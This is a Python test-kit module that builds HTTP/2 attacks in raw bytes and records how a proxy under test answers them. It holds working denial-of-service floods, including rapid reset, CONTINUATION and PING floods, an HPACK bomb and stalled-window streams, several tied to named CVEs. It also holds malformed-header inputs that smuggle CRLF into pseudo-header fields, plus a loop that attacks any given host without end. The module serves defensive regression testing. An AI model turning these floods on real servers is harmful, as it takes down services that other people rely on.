"""Attacks on an HTTP/2 server, in raw bytes, and what an attacker sees of its defence.

`ATTACKS` is the table. Its numbers are those of `tests/unit/proxy/http/test_h2_attacks.py`. `mount` carries one out;
`python -m tests.kit.h2_attacks NAME HOST PORT` does so again and again until its standard input ends, and says in a
line that it begins.
"""

from __future__ import annotations

import collections
import contextlib
import itertools
import select
import socket
import sys
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field

from tests.kit.h2_client import PREFACE, frame

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, _, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, END_HEADERS = 1, 4
PROTOCOL_ERROR, INTERNAL_ERROR, STREAM_CLOSED, CANCEL, COMPRESSION_ERROR, ENHANCE_YOUR_CALM = 1, 2, 5, 8, 9, 11

DEADLINE = 20.0  # s, for the end of an attack
MOST = 64 << 20  # bytes that an attacker sends on one connection
PIECE = 65536

VICTIM = "test"
"""The host that they ask for."""

LARGE = "/large"
"""What an attacker asks for where the answer matters: 4 MiB."""

LARGE_OVER_HTTP2 = "/over-http2?body=4194304"
"""The same from an upstream of HTTP/2 (`h2_origin`)."""

HEADY = "/heady"
"""The answer has headers of 16 KiB, and no body."""

SLOW = "/slow"
"""Streams on which nothing happens end soon."""

Pairs = list[tuple[str | bytes, str | bytes]]
GET: Pairs = [(":method", "GET"), (":scheme", "http"), (":authority", VICTIM), (":path", "/")]
POST: Pairs = [(":method", "POST"), *GET[1:]]


def literals(pairs: Pairs) -> bytes:
    """A header block that no encoder would refuse to write: literals that are not indexed (RFC 7541 6.2.2)."""

    def string(text: str | bytes) -> bytes:
        data = text.encode("latin-1") if isinstance(text, str) else text
        if len(data) < 127:
            return bytes((len(data),)) + data
        rest, size = len(data) - 127, b"\x7f"
        while rest >= 128:
            size += bytes((rest % 128 + 128,))
            rest //= 128
        return size + bytes((rest,)) + data

    return b"".join(b"\0" + string(name) + string(value) for name, value in pairs)


def request(stream: int, pairs: Pairs = GET, more: bytes = b"", *, end: bool = True) -> bytes:
    """A request's head; `more` goes behind its header block."""
    return frame(HEADERS, END_HEADERS | (END_STREAM if end else 0), stream, literals(pairs) + more)


def asked(**pseudo: str) -> Pairs:
    """A GET with other pseudo header fields."""
    return [(name, pseudo.get(str(name)[1:], value)) for name, value in GET]


def number(value: int) -> bytes:
    """32 bits, as most payloads have them."""
    return value.to_bytes(4, "big")


def setting(name: int, value: int) -> bytes:
    return name.to_bytes(2, "big") + number(value)


def streams(each: Callable[[int], bytes]) -> Callable[[], Iterator[bytes]]:
    """`each` for one stream after the other, without end."""
    return lambda: (each(number) for number in itertools.count(1, 2))


def again(piece: bytes, first: bytes = b"") -> Callable[[], Iterator[bytes]]:
    """`piece` for ever, behind `first`."""
    return lambda: itertools.chain((first,), itertools.repeat(piece * max(1, PIECE // len(piece))))


def once(*pieces: bytes) -> Callable[[], Iterator[bytes]]:
    return lambda: iter(pieces)


@dataclass(frozen=True)
class Attack:
    """`feed` is sent behind the client's preface, until it or the connection ends.

    `code`: of the GOAWAY that ends the connection; None if it need not end, or the attacker does not hear of it.
    `reset`: of the RST_STREAM that ends each of `resets` streams, at least. `stats`: one of these counters tells of
    each connection that ends, or of each reset. `heads`: the attacker goes when so many responses have begun. `reads`:
    whether it reads what it is told.
    """

    name: str
    feed: Callable[[], Iterator[bytes]]
    stats: tuple[str, ...]
    code: int | None = None
    reset: int | None = None
    resets: int = 0
    heads: int = 0
    reads: bool = True
    settings: bytes = b""


@dataclass
class Seen:
    """What an attacker was told. `closed`: the connection came to its end."""

    codes: list[int] = field(default_factory=list)
    resets: collections.Counter[int] = field(default_factory=collections.Counter)
    heads: int = 0
    sent: int = 0
    closed: bool = False


def mount(attack: Attack, address: tuple[str, int], *, until: float = DEADLINE) -> Seen:
    """Attack once, on one connection, until its end, or until as many streams were reset, or answered, as should be.

    Gives up `until` seconds from now.
    """
    deadline = time.monotonic() + until
    seen = Seen()
    with socket.socket() as sock:
        if not attack.reads:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        sock.connect(address)
        sock.setblocking(False)
        feed = itertools.chain((PREFACE + frame(SETTINGS, 0, 0, attack.settings),), attack.feed())
        _exchange(attack, sock, _pieces(feed), seen, deadline)
    return seen


def survives(address: tuple[str, int], data: bytes) -> bool:
    """Whether a connection that begins with `data`, sent at once, goes on answering PINGs: an end may come behind the
    first answer.
    """
    with socket.create_connection(address, timeout=DEADLINE) as sock:
        sock.sendall(PREFACE + frame(SETTINGS) + data + frame(PING, 0, 0, b"alive???"))
        heard = b""
        asked_again = False
        with contextlib.suppress(ConnectionResetError, BrokenPipeError):
            while piece := sock.recv(PIECE):
                heard += piece
                if frame(PING, 1, 0, b"still???") in heard:
                    return True
                if not asked_again and frame(PING, 1, 0, b"alive???") in heard:
                    asked_again = True
                    sock.sendall(frame(PING, 0, 0, b"still???"))
    return False


def _pieces(feed: Iterator[bytes]) -> Iterator[bytes]:
    """The feed in pieces that are worth a system call."""
    gathered = b""
    for piece in feed:
        gathered += piece
        if len(gathered) >= PIECE:
            yield gathered
            gathered = b""
    if gathered:
        yield gathered


def _exchange(attack: Attack, sock: socket.socket, feed: Iterator[bytes], seen: Seen, deadline: float) -> None:
    poll = select.poll()
    heard = bytearray()
    unsent = memoryview(next(feed))
    reading = select.POLLIN if attack.reads else 0
    while time.monotonic() < deadline and not seen.closed:
        poll.register(sock, reading | (select.POLLOUT if unsent else 0))
        for _, event in poll.poll(100):
            if event & select.POLLIN:
                seen.closed = _hear(sock, heard, seen)
            elif event & (select.POLLERR | select.POLLHUP):
                seen.closed = True
            if event & select.POLLOUT and not seen.closed:
                with contextlib.suppress(BlockingIOError, ConnectionResetError, BrokenPipeError):
                    size = sock.send(unsent)
                    seen.sent += size
                    unsent = unsent[size:]
        if not unsent and seen.sent < MOST:
            unsent = memoryview(next(feed, b""))
        if attack.resets and sum(seen.resets.values()) >= attack.resets:
            return
        if attack.heads and seen.heads >= attack.heads:
            return


def _hear(sock: socket.socket, heard: bytearray, seen: Seen) -> bool:
    """Note the frames that came; whether it was the end."""
    try:
        data = sock.recv(PIECE)
    except ConnectionResetError:
        return True
    heard += data
    while len(heard) >= 9 and len(heard) >= (size := 9 + int.from_bytes(heard[:3], "big")):
        kind, payload = heard[3], bytes(heard[9:size])
        if kind == GOAWAY:
            seen.codes.append(int.from_bytes(payload[4:8], "big"))
        elif kind == HEADERS:
            seen.heads += 1
        elif kind == RST_STREAM:
            seen.resets[int.from_bytes(payload, "big")] += 1
        del heard[:size]
    return not data


def _each(count: int, piece: Callable[[int], bytes]) -> bytes:
    """`piece` for so many streams."""
    return b"".join(piece(stream) for stream in range(1, 2 * count, 2))


def _malformed(name: str, pairs: Pairs) -> Attack:
    return Attack(f"malformed: {name}", once(request(1, pairs)), ("http2.rx_messaging_error",), code=PROTOCOL_ERROR)


def _flood(name: str, stats: tuple[str, ...], feed: Callable[[], Iterator[bytes]], *, reads: bool = True) -> Attack:
    """An end by a budget. Who does not read is not told."""
    return Attack(name, feed, stats, code=ENHANCE_YOUR_CALM if reads else None, reads=reads)


RESETS = ("http.main.downstream_rq_too_many_premature_resets",)
ANSWERS = ("http2.inbound_control_frames_flood", "http2.outbound_control_flood")
IDLE = ("http.main.downstream_rq_idle_timeout",)
BROKEN = ("http.main.downstream_cx_protocol_error",)
STREAMS = 1000
INITIAL_WINDOW = 4

_OPEN = request(1, POST, end=False)
_PING = frame(PING, 0, 0, bytes(8))
_SETTINGS = frame(SETTINGS, 0, 0, setting(INITIAL_WINDOW, 65535))
_NO_WINDOW = setting(INITIAL_WINDOW, 0)
_STALLED, _STALLED_OVER_HTTP2 = (
    _each(STREAMS, lambda stream, path=path: request(stream, asked(path=path)))  # type: ignore[misc]
    for path in (LARGE, LARGE_OVER_HTTP2)
)
_CRUMB = literals([("cookie", "a")])

FLOODS = (
    _flood(
        "28 rapid reset (CVE-2023-44487)",
        RESETS,
        streams(lambda stream: request(stream) + frame(RST_STREAM, 0, stream, number(CANCEL))),
    ),
    _flood(
        "29 resets that we send: DATA behind the end (CVE-2025-8671)",
        RESETS,
        streams(lambda stream: request(stream) + frame(DATA, 0, stream, b"x")),
    ),
    _flood(
        "29 resets that we send: WINDOW_UPDATE of 0 (CVE-2025-8671)",
        RESETS,
        streams(lambda stream: request(stream, POST, end=False) + frame(WINDOW_UPDATE, 0, stream, bytes(4))),
    ),
    _flood(
        "29 resets that we send: 101 headers",
        RESETS,
        streams(lambda stream: request(stream, more=literals([("x", "")]) * 101)),
    ),
    _flood(
        "29 resets that we send: streams that depend on themselves",
        ("http2.inbound_priority_frames_flood",),
        streams(lambda stream: frame(PRIORITY, 0, stream, number(stream) + b"\0")),
    ),
    _flood(
        "30 CONTINUATION without end (CVE-2024-24549)",
        BROKEN,
        again(frame(CONTINUATION, 0, 1, bytes(16384)), frame(HEADERS, END_STREAM, 1, literals(GET))),
    ),
    _flood(
        "30 CONTINUATION with nothing in it (CVE-2024-30255)",
        BROKEN,
        again(frame(CONTINUATION, 0, 1), frame(HEADERS, END_STREAM, 1, literals(GET))),
    ),
    Attack(
        "31 HPACK bomb",
        again(
            request(3, more=b"\xbe" * 16000),
            request(1, more=b"\x40" + literals([("x", "y" * 3900)])[1:]),
        ),
        BROKEN,
        code=COMPRESSION_ERROR,
    ),
    _flood("32 PING (CVE-2019-9512)", ANSWERS, lambda: itertools.repeat(_PING * 100)),
    _flood("32 PING, answers unread", ("http2.outbound_control_flood",), again(_PING), reads=False),
    _flood("32 SETTINGS (CVE-2019-9515)", ANSWERS, lambda: itertools.repeat(_SETTINGS * 100)),
    _flood("32 SETTINGS, answers unread", ("http2.outbound_control_flood",), again(_SETTINGS), reads=False),
    _flood(
        "32 SETTINGS of 2,730 entries beside open streams",
        BROKEN,
        again(
            frame(SETTINGS, 0, 0, (setting(INITIAL_WINDOW, 1) + setting(INITIAL_WINDOW, 2)) * 1365),
            _each(STREAMS, lambda stream: request(stream, POST, end=False)),
        ),
    ),
    _flood("32 PRIORITY", ("http2.inbound_priority_frames_flood",), again(frame(PRIORITY, 0, 3, bytes(5)), _OPEN)),
    _flood(
        "32 WINDOW_UPDATE",
        ("http2.inbound_window_update_frames_flood",),
        again(frame(WINDOW_UPDATE, 0, 0, number(1)), _OPEN),
    ),
    _flood(
        "32 DATA with nothing in it (CVE-2019-9518)",
        ("http2.inbound_empty_frames_flood",),
        again(frame(DATA, 0, 1), _OPEN),
    ),
    _flood(
        "32 DATA with padding alone",
        ("http2.inbound_empty_frames_flood",),
        again(frame(DATA, 8, 1, b"\xff" + bytes(255)), _OPEN),
    ),
    _flood(
        "33 heads of responses, unread",
        ("http2.outbound_flood",),
        once(_each(STREAMS, lambda stream: request(stream, asked(path=HEADY)))),
        reads=False,
    ),
    Attack(
        "33 1,000 streams without a window ask for 4 MiB each (CVE-2019-9517)",
        once(_STALLED),
        ("http.main.downstream_cx_destroy_remote_active_rq",),
        heads=STREAMS,
        settings=_NO_WINDOW,
    ),
    Attack(
        "33 WINDOW_UPDATE of 1 beside 1,000 streams without a window",
        again(frame(WINDOW_UPDATE, 0, 0, number(1)), _STALLED),
        ("http2.inbound_window_update_frames_flood",),
        code=ENHANCE_YOUR_CALM,
        settings=_NO_WINDOW,
    ),
    Attack(
        "33 bodies that do not come",
        once(_each(100, lambda stream: request(stream, asked(method="POST", path=SLOW), end=False))),
        IDLE,
        reset=0,
        resets=100,
    ),
    Attack(
        "31 crumbs of a cookie",
        streams(lambda stream: request(stream, more=_CRUMB * 101)),
        ("http2.header_overflow",),
        reset=INTERNAL_ERROR,
        resets=20,
    ),
    Attack(
        "31 4,000 fields in 4,000 bytes",
        streams(lambda stream: request(stream, more=b"\x90" * 4000)),
        ("http2.header_list_size_too_large",),
        reset=INTERNAL_ERROR,
        resets=20,
    ),
    Attack(
        "31 4,000 fields in 4,000 bytes, for a stream that was reset",
        again(
            frame(HEADERS, END_HEADERS, 1, b"\x90" * 4000),
            request(1, POST, end=False) + frame(WINDOW_UPDATE, 0, 1, bytes(4)),
        ),
        BROKEN,
        code=STREAM_CLOSED,
    ),
    Attack(
        "34 a header list of 61 KiB",
        streams(
            lambda stream: (
                frame(HEADERS, END_STREAM, stream, literals(GET))
                + frame(CONTINUATION, 0, stream, literals([("x", "y" * 15000)])) * 4
                + frame(CONTINUATION, END_HEADERS, stream, literals([("x", "y" * 2000)]))
            )
        ),
        ("http2.header_list_size_too_large",),
        reset=INTERNAL_ERROR,
        resets=20,
    ),
)

MALFORMED = (
    _malformed("21 two hosts", [*GET, ("host", "test"), ("host", "test")]),
    _malformed("22 host is not the authority", [*GET, ("host", "other")]),
    _malformed("23 authority with a user", asked(authority="user@test")),
    _malformed("23 authority with a path", asked(authority="test/admin")),
    _malformed("23 authority with a space", asked(authority="test x")),
    _malformed("23 no authority", asked(authority="")),
    _malformed("23 scheme with a line end", asked(scheme="http\r\nx: y")),
    _malformed("23 scheme that is a URL", asked(scheme="http://evil/?")),
    _malformed("24 path with a space", asked(path="/a HTTP/1.1")),
    _malformed("24 path with a line end", asked(path="/ HTTP/1.1\r\nx: y\r\n\r\n")),
    _malformed("24 relative path", asked(path="admin")),
    _malformed("24 path that is a URL", asked(path="http://test/")),
    _malformed("24 no path", asked(path="")),
    _malformed("24 method with a space", asked(method="GET /admin")),
    _malformed("24 method with a line end", asked(method="GET\r\n")),
    _malformed("25 value with CR and LF", [*GET, ("x", "a\r\ny: z")]),
    _malformed("25 value with LF", [*GET, ("x", "a\ny: z")]),
    _malformed("25 value with NUL", [*GET, ("x", "a\0")]),
    _malformed("25 name with a line end", [*GET, ("x: y\r\nz", "a")]),
    _malformed("25 name with a colon", [*GET, ("x:y", "a")]),
    _malformed("25 name in upper case", [*GET, ("X", "a")]),
    _malformed("25 name with a space", [*GET, ("x y", "a")]),
    _malformed("25 empty name", [*GET, ("", "a")]),
    _malformed("26 connection", [*GET, ("connection", "x")]),
    _malformed("26 upgrade", [*GET, ("upgrade", "websocket")]),
    _malformed("26 transfer-encoding", [*GET, ("transfer-encoding", "chunked")]),
    _malformed("26 te", [*GET, ("te", "gzip")]),
    _malformed("26 two lengths", [*GET, ("content-length", "0"), ("content-length", "1")]),
    _malformed("27 extended CONNECT that was not offered", [*asked(method="CONNECT"), (":protocol", "websocket")]),
    _malformed("pseudo header field behind others", [("x", "y"), *GET]),
    _malformed("unknown pseudo header field", [*GET, (":x", "y")]),
)

ATTACKS = (*FLOODS, *MALFORMED)

OVER_HTTP2 = Attack(
    "33 1,000 streams without a window ask an HTTP/2 upstream for 4 MiB each",
    once(_STALLED_OVER_HTTP2),
    ("http.main.downstream_cx_destroy_remote_active_rq",),
    heads=STREAMS,
    settings=_NO_WINDOW,
)
"""Beside the table, as it needs an upstream of its own."""


def main(name: str, host: str, port: str) -> None:
    (attack,) = [attack for attack in ATTACKS if attack.name == name]
    threading.Thread(target=_attack_for_ever, args=(attack, (host, int(port))), daemon=True).start()
    sys.stdin.read()


def _attack_for_ever(attack: Attack, address: tuple[str, int]) -> None:
    print("attacking", flush=True)
    while True:
        mount(attack, address)


if __name__ == "__main__":
    main(*sys.argv[1:])
